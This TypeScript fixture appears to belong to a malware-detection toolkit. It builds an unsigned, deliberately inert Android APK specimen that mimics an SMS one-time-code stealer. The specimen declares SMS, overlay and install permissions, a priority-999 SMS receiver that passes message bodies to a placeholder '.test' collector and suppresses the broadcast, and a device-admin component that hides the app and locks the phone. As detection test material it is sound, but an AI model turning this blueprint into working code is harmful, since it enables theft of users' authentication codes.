import { buildApk, constString, invoke } from '@vedette/formats/builders';

/**
 * The pattern by which thieves of one-time codes are known, and nothing of their function: declared powers, the order of API calls, constants. Inert: unsigned, so no phone
 * installs it; the methods only name calls, without values that could work; the only address is under `.test` (RFC 6761, section 6.2).
 * @param variant makes another build with another hash
 */
export function messageThiefPattern(variant = 1): Uint8Array {
  const packageName = 'com.example.specimen.messages';
  const receiver = `${packageName}.Incoming`;
  return buildApk({
    manifest: {
      package: packageName,
      versionCode: variant,
      versionName: `${variant}.0-specimen`,
      minSdk: 21,
      targetSdk: 22,
      permissions: [
        'android.permission.RECEIVE_SMS',
        'android.permission.READ_SMS',
        'android.permission.SEND_SMS',
        'android.permission.READ_CONTACTS',
        'android.permission.RECEIVE_BOOT_COMPLETED',
        'android.permission.SYSTEM_ALERT_WINDOW',
        'android.permission.REQUEST_INSTALL_PACKAGES',
        'android.permission.INTERNET',
      ],
      components: [
        {
          kind: 'receiver',
          name: receiver,
          exported: true,
          attributes: { 'android:priority': 999 },
          intentFilters: [{ actions: ['android.provider.Telephony.SMS_RECEIVED'] }],
        },
        {
          kind: 'receiver',
          name: `${packageName}.Admin`,
          exported: true,
          permission: 'android.permission.BIND_DEVICE_ADMIN',
          intentFilters: [{ actions: ['android.app.action.DEVICE_ADMIN_ENABLED'] }],
        },
      ],
    },
    dex: [
      [
        {
          name: receiver,
          superclass: 'android.content.BroadcastReceiver',
          methods: [
            {
              name: 'onReceive',
              descriptor: '(Landroid/content/Context;Landroid/content/Intent;)V',
              code: [
                invoke('virtual', 'android.telephony.SmsMessage', 'getMessageBody', '()Ljava/lang/String;'),
                constString('http://collector.specimen.test/gate'),
                invoke('virtual', 'java.net.URL', 'openConnection', '()Ljava/net/URLConnection;'),
                invoke('virtual', receiver, 'abortBroadcast', '()V'),
                invoke(
                  'virtual',
                  'android.telephony.SmsManager',
                  'sendTextMessage',
                  '(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Landroid/app/PendingIntent;Landroid/app/PendingIntent;)V',
                ),
              ],
            },
          ],
        },
        {
          name: `${packageName}.Admin`,
          superclass: 'android.app.admin.DeviceAdminReceiver',
          methods: [
            {
              name: 'hide',
              descriptor: '()V',
              code: [
                invoke(
                  'virtual',
                  'android.content.pm.PackageManager',
                  'setComponentEnabledSetting',
                  '(Landroid/content/ComponentName;II)V',
                ),
                invoke('virtual', 'android.app.admin.DevicePolicyManager', 'lockNow', '()V'),
              ],
            },
          ],
        },
      ],
    ],
  });
}
